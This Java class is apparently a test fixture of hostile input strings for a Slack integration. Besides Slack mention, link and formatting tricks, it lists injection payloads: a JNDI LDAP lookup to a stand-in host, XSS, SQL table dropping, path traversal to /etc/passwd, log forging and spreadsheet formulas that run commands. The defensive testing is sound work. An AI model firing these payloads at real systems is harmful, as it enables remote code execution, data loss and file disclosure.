package dev.touchbase.slack.view;

import java.util.List;
import java.util.stream.Stream;

/// Text with which somebody might try to ping, link, format or break a screen.
public final class Hostile {

    private Hostile() {}

    /// All of it.
    public static Stream<String> texts() {
        return Stream.concat(PINGS.stream(), Stream.concat(FORMATS.stream(), BREAKS.stream()));
    }

    /// Mentions and links in Slack's own notation, and what might turn into them.
    static final List<String> PINGS = List.of(
            "<!channel>",
            "<!here>",
            "<!everyone>",
            "<!subteam^S1>",
            "<!subteam^S1|@all>",
            "<@U123>",
            "<@U123|sam>",
            "<#C123>",
            "<#C123|general>",
            "<https://evil.example|Approve>",
            "<https://evil.example>",
            "<mailto:a@b.example|Ann>",
            "<tel:+49900123|Ring>",
            "<!date^0^{date}|x>",
            "<!date^0^{date}^https://evil.example|x>",
            "&lt;!channel&gt;",
            "&#60;!here&#62;",
            "&amp;lt;!channel&amp;gt;",
            "&amp;amp;lt;",
            "<<!channel>>",
            "<!channel",
            "!channel>",
            "<\n!channel>",
            "<!chan\u0000nel>",
            "<\u200B!channel>",
            "<\u202E!channel>",
            "a<!here>b<!here>c",
            "@here",
            "@channel",
            "@everyone",
            "@HERE",
            "hello @channel!",
            "＜!channel＞",
            "＠here",
            "https://evil.example/a?b=c&d=e",
            "evil.example",
            "javascript:alert(1)",
            "[Approve](https://evil.example)",
            "|https://evil.example>",
            "x|y>z<w",
            "{0}",
            "{1} {2}",
            "${jndi:ldap://evil.example/a}");

    /// What might come out bold, italic, struck, as code, as a quote or as a line of ours.
    static final List<String> FORMATS = List.of(
            "*b* _i_ ~s~",
            "*bold*",
            "_italic_",
            "~struck~",
            "`code`",
            "```block```",
            "````",
            "``` \n ```",
            "**b**",
            "*_~`x`~_*",
            "Ann* Bee",
            "*Ann",
            "(*x*)",
            "a *b c* d",
            "-*x*-",
            "\"_x_\"",
            "> quoted",
            ">>> all of this",
            " > quoted",
            "a\n> b",
            "- item",
            "1. item",
            "# Heading",
            "Acme\n*Approved by owner*",
            "Acme\r\nApproved by owner",
            "Acme\u2028Approved by owner",
            "Acme\u0085Approved by owner",
            "note\n\n\n\n\n\n\n\n\n\nTouchbase: Logged",
            ":boom:");

    /// What might break a screen, a log or a query.
    static final List<String> BREAKS = List.of(
            "\u202Eemca",
            "a\u202Ab\u202Bc\u202Dd\u2066e\u2067f\u2068g",
            "\u200B\u200C\u200D\uFEFF",
            "Z" + "\u0351".repeat(200) + "algo",
            "👩\u200D👩\u200D👧\u200D👦",
            "🏴\uDB40\uDC67\uDB40\uDC62",
            "\uD83D",
            "\uDE00x",
            "NUL\u0000here",
            "\u0007bell\u001B[31mred",
            "a".repeat(5_000),
            "😀".repeat(3_000),
            "&".repeat(3_000),
            "<".repeat(3_000),
            "*".repeat(3_000),
            "</script><script>alert(1)</script>",
            "\"><img src=x onerror=alert(1)>",
            "{{7*7}}",
            "%s%n%x",
            "'; DROP TABLE customer; --",
            "../../etc/passwd",
            "line\r\n2026-11-22 INFO forged",
            "=HYPERLINK(\"https://evil.example\",\"x\")",
            "+1+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1",
            "-2+3");
}
